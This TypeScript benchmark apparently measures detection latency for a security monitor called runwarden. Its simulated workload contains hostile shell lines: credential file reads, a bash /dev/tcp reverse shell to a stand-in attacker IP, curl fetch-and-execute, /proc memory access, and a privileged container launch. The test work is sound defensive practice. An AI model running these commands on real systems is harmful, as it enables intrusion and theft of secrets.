/**
 * From an act to its detection: the time between the kernel's time stamp of the act and the line in events.ndjson,
 * over acts of several kinds in a real run, as many of each as there are rounds times 25. Then from an act to the end of a
 * job that it locks down, twice a round.
 * Run: node bench/detection.ts [rounds]
 */
import { once } from 'node:events'
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  watch,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startLab } from '../packages/lab/src/index.ts'
import { madeUpToken } from '../packages/lab/src/tokens.ts'
import { Findings } from './findings.ts'
import { lockdownTimes } from './lockdown.ts'

const rounds = Number(process.argv[2] ?? 5)
/** Of each kind: 125 by default. */
const acts = rounds * 25
const attacker = '198.51.100.10'
const place = mkdtempSync(join(tmpdir(), 'runwarden-detection-'))
const out = join(place, 'out')

/** What is found of each kind of act, by rule. */
const kinds: Readonly<Record<string, string>> = {
  'credential-sweep': 'secrets read by a stranger',
  'shell-on-network-socket': 'reverse shell',
  'process-memory-opened': 'memory of a process read',
  'downloaded-program-started': 'fetched, made executable, started',
  'privileged-container-asked': 'privileged container asked for',
  'agent-memory-written': "the agent's memory opened for writing",
  'secret-in-build-log': 'secret in the build log',
  'source-code-overwritten': "another's file overwritten",
}
const work = `
for i in $(seq ${acts}); do
  sh -c 'head -c1 .aws/credentials .ssh/id_rsa .npmrc .kube/config .pgpass > /dev/null; :'
  bash -c 'exec 3<>/dev/tcp/${attacker}/4444; exec sh -c : <&3 >&3'
  sh -c 'dd count=0 if=/proc/$PPID/mem 2> /dev/null; :'
  curl -so tool-$i http://${attacker}/tool; chmod +x tool-$i; ./tool-$i
  ../programs/podman run --privileged image-$i
  sh -c 'dd count=0 of=/proc/'$PPID'/mem conv=notrunc 2> /dev/null; :'
  sed -n $i"p" ../tokens
  cp ../tokens written-$i; ../programs/swap written-$i < ../programs/swap > /dev/null
done`

const files = join(place, 'files')
mkdirSync(files)
copyFileSync('/bin/true', join(files, 'tool'))
const programs = join(place, 'programs')
mkdirSync(programs)
copyFileSync('/bin/true', join(programs, 'podman'))
copyFileSync('/usr/bin/tee', join(programs, 'swap'))
const tokens = Array.from({ length: acts }, (_, i) => madeUpToken('ghs_', `bench${i}`))
writeFileSync(join(place, 'tokens'), tokens.join('\n'))
await using lab = await startLab({
  packets: false,
  servers: [{ addresses: [attacker], ports: { http: 80, tcp: 4444 }, files }],
})
const home = join(place, 'home')
for (const name of ['.aws/credentials', '.ssh/id_rsa', '.npmrc', '.kube/config', '.pgpass']) {
  mkdirSync(join(home, name, '..'), { recursive: true })
  writeFileSync(join(home, name), 'x')
}
const command = join(import.meta.dirname, '../packages/cli/bin/runwarden')
const child = lab.runner.spawn(
  command,
  ['run', '--quiet', '--out', out, '--', 'bash', '-c', work],
  { cwd: home, env: { HOME: home } },
)
let said = ''
child.stdout?.resume()
child.stderr?.on('data', (data) => (said += String(data)))
const ended = once(child, 'close')
const file = join(out, 'events.ndjson')
while (!existsSync(file)) await new Promise((resolve) => setTimeout(resolve, 5))
const findings = new Findings(file)
const watcher = watch(file, () => findings.read())
const [status] = await ended
watcher.close()
findings.read()
const locked = await lockdownTimes(lab, { command, attacker, place }, 2 * rounds)
rmSync(place, { recursive: true })
if (status !== 0) throw new Error(`the run ended with ${status}: ${said}`)

const at = (sorted: readonly number[], share: number): string =>
  `${(sorted[Math.ceil(sorted.length * share) - 1] ?? NaN).toFixed(1)} ms`.padStart(11)
const row = (name: string, latencies: readonly number[], target = ''): void => {
  const sorted = latencies.toSorted((a, b) => a - b)
  console.log(
    `${name.padEnd(36)} ${String(sorted.length).padStart(5)} ${at(sorted, 0.5)} ${at(sorted, 0.99)}   ${target}`,
  )
}
console.log('from an act to its detection          acts         p50         p99   target')
const all = Object.entries(kinds).flatMap(([rule, name]) => {
  const latencies = findings.latencies(rule)
  if (latencies.length < acts)
    throw new Error(`${rule} was found ${latencies.length} times in ${acts} acts: ${said}`)
  row(name, latencies)
  return latencies
})
row('all', all, 'p99 ≤ 100 ms')
row('lockdown: the last process ended', locked, '≤ 1,000 ms')
